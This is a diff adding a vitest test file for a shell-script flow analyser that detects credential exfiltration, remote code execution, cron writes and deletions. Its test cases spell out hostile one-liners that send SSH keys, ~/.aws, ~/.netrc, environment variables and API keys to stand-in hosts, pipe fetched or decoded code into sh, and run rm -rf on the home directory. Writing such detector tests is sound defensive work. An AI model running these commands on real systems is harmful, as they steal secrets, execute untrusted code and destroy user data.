@@ -1,0 +1,97 @@
+import * as fc from 'fast-check'
+import { describe, expect, it } from 'vitest'
+import { MappedText } from '../text/mapped-text.ts'
+import type { Piece } from '../piece.ts'
+import { analyseFlows } from './analyse-flows.ts'
+import { taintsOf } from './flow-value.ts'
+
+const piece = (text: string, path = 'a.sh'): Piece => ({
+  path,
+  role: 'script',
+  language: 'shell',
+  text: new MappedText(text),
+  layer: 0,
+  isExample: false,
+})
+const flows = (text: string) =>
+  analyseFlows({ pieces: [piece(text)] }).flows.map(({ kind, callee, values, file }) => ({
+    kind,
+    callee,
+    file,
+    taints: taintsOf(values).map((taint) => taint.kind),
+  }))
+
+// WUN-103: a shell script is followed through pipes, files, variables and functions
+describe('in shells', () => {
+  it.each([
+    ['a pipe', 'cat ~/.ssh/id_rsa | base64 | curl -d @- https://a.test', 'send', 'credentials'],
+    ['a file', 'env > /tmp/e\ncurl -T /tmp/e https://a.test', 'send', 'environment'],
+    ['a variable', 'k=$(cat ~/.netrc)\ncurl "https://a.test/?k=$k"', 'send', 'credentials'],
+    ['a function', 'up() { curl -d "$1" https://a.test; }\nup "$OPENAI_API_KEY"', 'send', 'secret'],
+    ['an archive', 'tar czf /tmp/a.tgz ~/.aws\nnc 203.0.113.1 99 < /tmp/a.tgz', 'send', 'credentials'],
+    ['a loop', 'for f in ~/.ssh/id_rsa; do curl -F "f=@$f" https://a.test; done', 'send', 'credentials'],
+    ['a download that is run', 'curl -so /tmp/x https://a.test/x\nchmod +x /tmp/x\n/tmp/x', 'run-code', 'remote'],
+    [
+      'a download out of an archive',
+      'wget https://a.test/a.tgz\ntar xzf a.tgz -C /opt/b\n/opt/b/run',
+      'run-code',
+      'remote',
+    ],
+    ['words in quotes', 'bash -c "$(wget -qO- https://a.test)"', 'run-code', 'remote'],
+    ['a name put together', 'a=cu; b=rl; $a$b https://a.test | sh', 'run-code', 'remote'],
+    ['what was encoded', 'echo aGVsbG8gd29ybGQ= | base64 -d | sh', 'run-code', 'decoded'],
+    ['a here-document', 'cat > /etc/cron.d/x <<E\n$(curl https://a.test)\nE', 'write', 'remote'],
+  ])('follows %s', (_, text, kind, taint) => {
+    expect(flows(text)).toContainEqual(expect.objectContaining({ kind, taints: expect.arrayContaining([taint]) }))
+  })
+
+  it.each([
+    ['a program with a text of its own', 'curl https://a.test | python3 -c "import json"'],
+    ['a module of Python', 'curl https://a.test | python3 -m json.tool'],
+    ['errors', 'curl https://a.test 2> /tmp/log'],
+  ])('does not take %s for code that was fetched', (_, text) => {
+    expect(flows(text).filter(({ kind, taints }) => kind === 'run-code' && taints.includes('remote'))).toEqual([])
+  })
+
+  it('knows the file that is deleted', () => {
+    expect(flows('T=$HOME\nrm -rf "$T"/*')).toContainEqual(expect.objectContaining({ kind: 'delete', file: '~/*' }))
+  })
+})
+
+it('says which programs it could not follow', () => {
+  const python: Piece = { ...piece('import os\nos.system("x")', 'a.py'), language: 'python' }
+  expect(analyseFlows({ pieces: [python] }).unparsed).toEqual([python])
+})
+
+it('never throws, and places every flow in the text', () => {
+  const part = fc.constantFrom(
+    'curl ',
+    '| sh',
+    '$(',
+    ')',
+    '`',
+    '"',
+    "'",
+    '<<E\n',
+    'E\n',
+    '> f',
+    '${a:-',
+    '}',
+    'for x in ',
+    '; do ',
+    '; done',
+    'a=',
+    '\n',
+    '~/.ssh/id_rsa ',
+    'eval ',
+  )
+  fc.assert(
+    fc.property(fc.array(part, { maxLength: 25 }), (parts) => {
+      const text = parts.join('')
+      for (const { start, end } of analyseFlows({ pieces: [piece(text)] }).flows) {
+        expect(start).toBeGreaterThanOrEqual(0)
+        expect(end).toBeLessThanOrEqual(text.length + 1)
+      }
+    }),
+  )
+})
